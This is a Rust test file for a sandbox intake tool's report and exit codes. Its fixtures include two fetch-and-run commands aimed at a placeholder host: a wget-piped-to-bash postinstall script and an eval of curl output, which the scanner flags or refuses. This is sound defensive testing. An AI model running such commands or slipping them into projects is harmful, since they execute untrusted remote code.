//! `fenced-run intake`: the report it prints and its exit codes (0 accepted, 1 refused, 2 unusable), on
//! directory bundles built here. The archive corpus lives in intake/tests/hostile_corpus.rs, where the
//! archive writers are dependencies.

use host::cli::intake::{exit_code, render};
use intake::{run_stages, IntakeOptions, Stage};
use std::path::{Path, PathBuf};

fn bundle(dir: &Path, job: &str, files: &[(&str, &str)]) -> PathBuf {
    let b = dir.join("bundle");
    std::fs::create_dir_all(b.join("repo")).expect("mkdir");
    std::fs::write(b.join("job.toml"), job).expect("write");
    for (n, d) in files {
        let p = b.join(n);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, d).expect("write");
    }
    b
}

fn opts(dir: &Path) -> IntakeOptions {
    let w = dir.join("work");
    std::fs::create_dir_all(&w).expect("mkdir");
    IntakeOptions::default().with_work_parent(w)
}

#[test]
fn accepted_refused_and_unusable() {
    let t = tempfile::tempdir().expect("tempdir");
    let good = bundle(
        t.path(),
        "[repository]\npath = \"repo\"\n[test]\ncommand = \"sh test.sh\"\n",
        &[
            ("repo/test.sh", "echo ok\n"),
            (
                "repo/package.json",
                r#"{"scripts":{"postinstall":"wget -O- https://x.example/i | bash"}}"#,
            ),
        ],
    );
    let mut r = run_stages(&good, &opts(t.path()));
    assert_eq!(exit_code(&r), 0, "{}", render(&r));
    let text = render(&r);
    for stage in ["receive", "unpack", "structure", "normalise", "scan"] {
        assert!(text.contains(&format!("  {stage:<10} passed")), "{text}");
    }
    assert!(
        text.contains("finding: package.json: scripts.postinstall"),
        "{text}"
    );
    assert!(text.ends_with("accepted\n"), "{text}");
    r.cleanup().expect("cleanup");

    let t = tempfile::tempdir().expect("tempdir");
    let bad = bundle(
        t.path(),
        "[repository]\npath = \"repo\"\n[test]\ncommand = \"eval \\\"$(curl -s https://x.example/t)\\\"\"\n",
        &[("repo/x", "x")],
    );
    let r = run_stages(&bad, &opts(t.path()));
    assert_eq!(exit_code(&r), 1);
    assert_eq!(r.refusal.as_ref().expect("refused").stage, Stage::Scan);
    let text = render(&r);
    assert!(text.contains("  scan       REFUSED"), "{text}");
    assert!(
        text.contains("refused at scan: test.command: remote code load"),
        "{text}"
    );

    let r = run_stages(&t.path().join("missing"), &opts(t.path()));
    assert_eq!(exit_code(&r), 2);
    assert!(render(&r).contains("unusable input"));
}

/// The binary itself, when cargo has built it beside this test (as `cargo test --workspace` does).
#[test]
fn binary_exit_codes_and_json() {
    let exe = std::env::current_exe().expect("exe");
    let Some(bin) = exe
        .parent()
        .and_then(|d| d.parent())
        .map(|d| d.join("fenced-run"))
        .filter(|p| p.exists())
    else {
        attestation::vectors::skip_for(
            attestation::vectors::SkipKind::Build,
            "fenced-run binary not built beside the tests (run cargo test --workspace)",
        );
        return;
    };
    let t = tempfile::tempdir().expect("tempdir");
    let good = bundle(
        t.path(),
        "[repository]\npath = \"repo\"\n",
        &[("repo/x", "x")],
    );
    let out = std::process::Command::new(&bin)
        .args(["intake", "--json"])
        .arg(&good)
        .env("TMPDIR", t.path())
        .output()
        .expect("run fenced-run");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON on stdout");
    assert_eq!(v["accepted"], true);
    assert_eq!(v["stages"].as_array().map(Vec::len), Some(5));

    let bad = bundle(
        &t.path().join("b"),
        "[repository]\npath = \"repo\"\n[limits]\npids = 99999999\n",
        &[],
    );
    let out = std::process::Command::new(&bin)
        .arg("intake")
        .arg(&bad)
        .env("TMPDIR", t.path())
        .output()
        .expect("run fenced-run");
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("refused at normalise: limits.pids"));

    let out = std::process::Command::new(&bin)
        .args(["intake", "/nonexistent/bundle.tar"])
        .output()
        .expect("run fenced-run");
    assert_eq!(out.status.code(), Some(2));
}
